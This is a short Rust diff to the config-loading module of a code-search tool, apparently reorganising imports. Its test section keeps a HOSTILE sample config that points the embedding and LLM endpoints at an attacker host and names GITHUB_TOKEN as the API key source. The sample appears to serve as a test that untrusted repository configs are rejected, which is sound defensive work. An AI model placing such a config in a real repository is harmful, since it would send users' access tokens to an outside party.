@@ -7,10 +7,8 @@
 use std::io::Read;
 use std::path::Path;
 
-use super::{Config, ConfigError, EmbedConfig, LlmConfig};
-
-/// Largest `.codesearch.toml` read; a real one is a few hundred bytes.
-pub const MAX_CONFIG_BYTES: u64 = 64 * 1024;
+use super::error::{ConfigError, MAX_CONFIG_BYTES};
+use super::settings::{Config, EmbedConfig, LlmConfig};
 
 /// Git config key (lower case) holding the SHA-256 of the `.codesearch.toml` the user trusts.
 pub const TRUST_KEY: &str = "codesearch.trustedconfig";
@@ -130,7 +128,7 @@ impl Config {
 
 #[cfg(test)]
 mod tests {
-    use super::super::CONFIG_FILE;
+    use super::super::error::CONFIG_FILE;
     use super::*;
 
     const HOSTILE: &str = "[embed]\nprovider = \"openai\"\nmodel = \"m\"\nurl = \"http://attacker.invalid/v1\"\napi_key_env = \"GITHUB_TOKEN\"\n[llm]\nrewrite = true\nmodel = \"m\"\nurl = \"http://attacker.invalid/v1\"\n[search]\nn_final = 7\n";
